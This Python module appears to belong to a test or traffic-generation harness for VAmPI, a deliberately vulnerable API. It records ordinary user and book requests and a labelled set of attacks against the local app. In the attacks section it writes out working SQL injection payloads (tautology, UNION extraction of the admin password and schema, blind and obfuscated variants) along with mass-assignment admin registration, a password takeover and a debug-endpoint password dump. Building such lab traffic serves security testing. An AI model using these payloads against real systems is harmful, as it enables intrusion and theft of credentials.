"""VAmPI: users and books behind tokens."""

import json
import random
from urllib.parse import quote

FOLDER = "VAmPI"
PEOPLE = ["ada", "brian", "chloe", "d.knuth", "o'hara"]
BOOKS = ["The Hitchhiker's Guide", "C++ Templates & Idioms", "SELECT stories from the union", "1984", "50% off? <Retail>", "L'Étranger"]


def start(port):
    return (
        "import sys; sys.path.insert(0, '.')\n"
        "import config, app\n"
        f"config.vuln_app.app.run(host='127.0.0.1', port={port})\n"
    )


def environment(environ):
    return {**environ, "vulnerable": "1", "tokentimetolive": "600"}


def login(recorder, name, password):
    _, text = recorder.use("POST", "/users/v1/login", body={"username": name, "password": password})
    return {"authorization": "Bearer " + json.loads(text).get("auth_token", "")}


def ordinary(recorder):
    recorder.use("GET", "/createdb")
    recorder.use("GET", "/")
    marks = random.Random(recorder.count)
    for name in PEOPLE:
        password = f"{name.title()}#2026!{marks.randrange(10**6)}"
        mail = f"{name.replace(chr(39), '')}@contoso.org"
        recorder.use("POST", "/users/v1/register", body={"username": name, "password": password, "email": mail})
        token = login(recorder, name, password)
        recorder.use("GET", "/me", token)
        book = f"{marks.choice(BOOKS)} {marks.randrange(1000)}"
        recorder.use("POST", "/books/v1", token, {"book_title": book, "secret": f"{name} thinks it's fine; really (5 > 4)"})
        recorder.use("GET", "/books/v1", token)
        recorder.use("GET", f"/books/v1/{quote(book)}", token)
        recorder.use("PUT", f"/users/v1/{quote(name)}/email", token, {"email": mail.replace("@", ".new@")})
        recorder.use("PUT", f"/users/v1/{quote(name)}/password", token, {"password": password + "x"})
    recorder.use("GET", "/users/v1")
    for name in ["ada", "brian", "nobody"]:
        recorder.use("GET", f"/users/v1/{name}")
    login(recorder, "ada", "wrong")
    recorder.use("GET", "/me")


def attacks(recorder, _free_port):
    step = recorder.step

    def injected(value):
        return f"/users/v1/{quote(value)}"

    def holds(word):
        return lambda status, text: word in text

    yield step("any user by a tautology", "sqli", "GET", injected("x' OR '1'='1"), proof=holds('"username"'))
    yield step("password of the admin by UNION", "sqli", "GET",
               injected("x' UNION SELECT 1,username,3,password,5 FROM users WHERE username='admin'--"), proof=holds("pass1"))
    yield step("tables by UNION", "sqli", "GET",
               injected("x' UNION SELECT 1,sql,3,4,5 FROM sqlite_master WHERE name='users'--"), proof=holds("CREATE TABLE"))
    yield step("one letter of a password, blind", "sqli", "GET",
               injected("name1' AND substr((SELECT password FROM users WHERE username='admin'),1,1)='p'--"),
               proof=holds("name1"))
    yield step("the same in odd case, with line breaks", "sqli", "GET",
               injected("x'\nuNiOn\tsElEcT\n1,password,3,4,5\nFrOm\tusers\nwHeRe\nusername='admin'--"), proof=holds("pass1"))
    yield step("an error of the database", "sqli", "GET", injected("x' AND extractvalue(1,concat(0x7e,version()))--"),
               proof=lambda status, text: status == 500)
    yield step("registers as admin (a member too many)", "-", "POST", "/users/v1/register",
               body={"username": "mallory", "password": "pw", "email": "m@contoso.org", "admin": True},
               proof=holds("Successfully registered"))
    _, text = recorder.ask("vampi/attack/login", "POST", "/users/v1/login", body={"username": "mallory", "password": "pw"})
    token = {"authorization": "Bearer " + json.loads(text)["auth_token"]}
    yield step("is admin by that", "-", "GET", "/me", token, proof=holds('"admin": true'))
    yield step("changes somebody else's password", "-", "PUT", "/users/v1/name2/password", token, {"password": "taken"},
               proof=lambda status, text: status == 204)
    yield step("reads all passwords at a forgotten endpoint", "-", "GET", "/users/v1/_debug", proof=holds('"password"'))
